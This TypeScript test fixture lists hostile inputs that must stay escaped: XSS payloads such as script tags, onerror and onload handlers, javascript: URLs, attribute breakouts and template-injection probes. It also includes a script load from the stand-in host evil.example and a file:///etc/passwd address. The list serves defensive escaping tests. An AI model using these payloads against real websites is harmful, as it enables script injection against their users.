// For tests: input that would be markup or code if it were not escaped.
import type { HostileKind } from './kind.ts';

export const markupKinds: readonly HostileKind[] = [
  {
    title: 'script tags',
    texts: [
      '<script>alert(1)</script>',
      '<ScRiPt\n>alert(1)</sCrIpT >',
      '<script/src=//evil.example>',
      '<<script>x<</script>',
    ],
  },
  {
    title: 'handlers of events as attributes',
    texts: [
      '<img src=x onerror=alert(1)>',
      '<body onload=alert(1)>',
      '<a onpointerover\n=alert(1)>x',
      '<input autofocus onfocus=alert(1)>',
    ],
  },
  {
    title: 'SVG and MathML',
    texts: [
      '<svg/onload=alert(1)>',
      '<svg><style><img src=x onerror=alert(1)>',
      '<math><mtext><table><mglyph><style><!--</style>',
    ],
  },
  {
    title: 'markup that parsers read in two ways',
    texts: [
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
      '<template><script>x',
      '<textarea></textarea><img>',
      '</title></textarea><script>x',
    ],
  },
  {
    title: 'addresses that run a script',
    texts: [
      // eslint-disable-next-line no-script-url -- it is the subject of the test
      'javascript:alert(1)',
      ' java\tscript:alert(1)',
      '\u0001javascript:alert(1)',
      'JaVaScRiPt&colon;alert(1)',
      'jav%61script:alert(1)',
    ],
  },
  {
    title: 'addresses of other schemes',
    texts: [
      'data:text/html,<script>alert(1)</script>',
      'blob:https://example.org/x',
      'vbscript:msgbox(1)',
      'filesystem:https://example.org/x',
      'file:///etc/passwd',
    ],
  },
  {
    title: 'ways out of an attribute',
    texts: [
      '" autofocus onfocus=alert(1) x="',
      "' onclick='alert(1)",
      '` onclick=alert(1)',
      '"><b>',
      "'/><b>",
      '&quot;><b>',
    ],
  },
  { title: 'syntax of templates', texts: ['${7*7}', '{{7*7}}', '<%= 7*7 %>', '#{7*7}', '{% raw %}', '[[${7*7}]]'] },
  {
    title: 'marks of a template library',
    texts: ['lit$123$', '<!--?lit$123456789$-->', '?hidden', '.innerHTML', '@click'],
  },
  {
    title: 'comments, CDATA and instructions',
    texts: ['<!-- --!> <b>', ']]><b>', '<![CDATA[<b>]]>', '<?xml version="1.0"?>', '<!--><b>-->'],
  },
  {
    title: 'entities, once and more often',
    texts: ['&lt;b&gt;', '&amp;lt;b&amp;gt;', '&#x3c;b&#62;', '&#0;', '&notanentity', '&'.repeat(500)],
  },
  { title: 'names that hide members of a form', texts: ['form', 'submit', 'attributes', 'id', 'name', 'location'] },
];
